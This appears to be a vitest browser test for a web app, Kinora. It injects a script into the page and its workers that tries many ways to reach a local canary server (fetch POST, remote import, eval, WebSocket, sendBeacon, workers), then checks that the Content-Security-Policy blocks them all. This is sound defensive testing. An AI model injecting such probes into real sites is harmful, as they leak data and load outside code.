import { readFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { root } from '../../src/cli/install.mjs';
import { serve } from '../../src/cli/serve.mjs';
import { launchChromium } from '../support/browser';
import { firefoxProgram, openFirefox } from '../support/firefox';
import { smallFilm } from '../support/studioPage';

const dist = process.env['KINORA_DIST'] ?? join(root, 'dist');
const document = '# Bends\n\nAt the bend the current slows on the inner side. The bank grows and the river moves.\n';

/** Somebody else's machine: counts whoever connects to it. */
let canary: { readonly url: string; readonly calls: () => number; close(): void };
beforeAll(async () => {
  let calls = 0;
  const server = createServer((socket) => {
    calls += 1;
    socket.on('error', () => undefined).end('HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Type: text/javascript\r\nContent-Length: 0\r\n\r\n');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  canary = { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, calls: () => calls, close: () => server.close() };
});
afterAll(() => canary.close());

/**
 * Tries every way out, wherever it runs; tells on a channel which were open. In a worker it starts another one that tries as well.
 *
 * As text: no tool changes it.
 */
const tryToLeave = (url: string, file: string): string => `{
  const isPage = typeof window !== 'undefined';
  const place = isPage ? 'page' : (self.name === 'nested' ? 'nested ' : '') + ${file}.replace(/^.*\\/|-[\\w-]{8}\\.js$/g, '');
  const channel = new BroadcastChannel('drill');
  const happens = (target, good) => new Promise((resolve, reject) => {
    target['on' + good] = resolve;
    // An error of a nested worker that nobody prevents ends the one around it.
    target.onerror = (event) => { event.preventDefault(); reject(event); };
  });
  const tries = {
    fetch: () => fetch('${url}/fetch', { method: 'POST', body: place, mode: 'no-cors' }),
    import: () => import('${url}/import.js'),
    eval: () => (0, eval)('1 + 1'),
    function: () => Function('return 1')(),
    socket: () => happens(new WebSocket('${url.replace('http', 'ws')}'), 'open'),
    worker: () => happens(new Worker('${url}/worker.js'), 'message'),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open('GET', '${url}/xhr');
      request.send();
      return happens(request, 'load');
    },
    // It does not say whether it was refused: the canary does.
    beacon: () => { throw new Error(navigator.sendBeacon('${url}/beacon', place)); },
    picture: () => {
      const image = new Image();
      image.src = '${url}/picture.png';
      return happens(image, 'load');
    },
  };
  Promise.all(Object.entries(tries).map(async ([name, attempt]) => {
    try {
      const late = new Promise((_, reject) => setTimeout(() => reject(new Error('late')), 1000));
      await Promise.race([attempt(), late]);
      return name;
    } catch {
      return '';
    }
  })).then((open) => channel.postMessage({ place, open: open.filter(Boolean).sort() }));
  if (!isPage && self.name !== 'nested') new Worker(${file}, { type: 'module', name: 'nested' });
}`;

const workers = ['film.worker', 'steps.worker', 'voice.worker', 'worker'];
const places = [...workers, ...workers.map((name) => `nested ${name}`), 'page'];
const closed = Object.fromEntries(places.map((place) => [place, []]));

/** Runs in the page: makes a film, and gives what each worker and the page itself found open. */
const drill = (url: string): string => `(async () => {
  const found = [];
  const channel = new BroadcastChannel('drill');
  channel.onmessage = ({ data }) => found.push(data);
  while (typeof kinora === 'undefined') await new Promise((resolve) => setTimeout(resolve, 50));
  globalThis.kinoraLine = () => undefined;
  globalThis.kinoraProgress = () => undefined;
  await kinora.run('render', [{ name: 'bends.md', output: 'bends' }], ${JSON.stringify(smallFilm)});
  await kinora.run('render', [{ name: 'bends.md', output: 'bends' }], ${JSON.stringify({ ...smallFilm, container: 'gif' })});
  ${tryToLeave(url, "''")}
  const places = () => new Set(found.map(({ place }) => place)).size;
  for (const end = Date.now() + 20000; Date.now() < end && places() < ${places.length};) await new Promise((resolve) => setTimeout(resolve, 200));
  return Object.fromEntries(found.map(({ place, open }) => [place, open]));
})()`;

/** Runs in the page: gives what the studio says of requests once the steps of its sample were tried. */
const meter = (url: string): string => `(async () => {
  const found = [];
  new BroadcastChannel('drill').onmessage = ({ data }) => found.push(data);
  ${tryToLeave(url, "''")}
  for (const end = Date.now() + 20000; Date.now() < end && found.length < 2;) await new Promise((resolve) => setTimeout(resolve, 200));
  await new Promise((resolve) => setTimeout(resolve, 500));
  return document.querySelector('[data-testid=traffic]').textContent;
})()`;

/** The built site on a plain host that sends no headers of its own, its workers each with a try to leave before their first line. */
async function host(policy: (html: string) => string = (html) => html): Promise<{ readonly url: string; close(): Promise<void> }> {
  return serve(dist, {
    handle: async (request, response) => {
      const path = new URL(request.url ?? '/', 'http://localhost').pathname;
      if (path === '/') response.writeHead(200, { 'content-type': 'text/html' }).end(policy(await readFile(join(dist, 'index.html'), 'utf8')));
      else if (path.startsWith('/kinora-')) {
        request.resume();
        response.writeHead(200).end(path.startsWith('/kinora-source') ? document : '');
      } else if (/worker-[\w-]+\.js$/.test(path)) {
        response.writeHead(200, { 'content-type': 'text/javascript' }).end(`${tryToLeave(canary.url, 'import.meta.url')}\n` + await readFile(join(dist, path), 'utf8'));
      } else return false;
      return true;
    },
  });
}

type Evaluate = (expression: string) => Promise<unknown>;

/** Opens an address in a browser of its own. */
type Visit = (url: string, look: (evaluate: Evaluate) => Promise<void>) => Promise<void>;

const browsers: readonly (readonly [string, Visit])[] = [
  ['Chromium', async (url, look) => {
    const browser = await launchChromium();
    try {
      const page = await browser.newPage();
      await page.goto(url);
      await look((expression) => page.evaluate(expression));
    } finally {
      await browser.close();
    }
  }],
  ...(firefoxProgram === undefined ? [] : [['Firefox', async (url: string, look: Parameters<Visit>[1]) => {
    const firefox = await openFirefox(firefoxProgram as string);
    try {
      await firefox.goto(url);
      await look((expression) => firefox.evaluate(expression, 120_000));
    } finally {
      await firefox.close();
    }
  }] as const]),
];

describe.each(browsers)('in %s', (_name, visit) => {
  test('nothing leaves the page or any of its workers, nor does text become code, on a host without headers', async () => {
    const site = await host();
    const before = canary.calls();
    try {
      await visit(`${site.url}?automated`, async (evaluate) => expect(await evaluate(drill(canary.url))).toEqual(closed));
      await visit(site.url, async (evaluate) => expect(await evaluate(meter(canary.url))).toMatch(/^No request has left for another site\s*\d+ refused$/));
      expect(canary.calls() - before).toBe(0);
    } finally {
      await site.close();
    }
  });

  test('the drill would notice: without the policy every one of them gets out, and the page says so', async () => {
    const site = await host((html) => html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ''));
    const before = canary.calls();
    try {
      await visit(`${site.url}?automated`, async (evaluate) => {
        const found = await evaluate(drill(canary.url)) as Readonly<Record<string, readonly string[]>>;
        for (const place of places) expect(found[place], place).toEqual(expect.arrayContaining(['eval', 'fetch', 'import']));
      });
      expect(canary.calls() - before).toBeGreaterThan(2 * places.length);
      await visit(site.url, async (evaluate) => expect(await evaluate(meter(canary.url))).toMatch(/^\d+ requests have left for other sites/));
    } finally {
      await site.close();
    }
  });
});
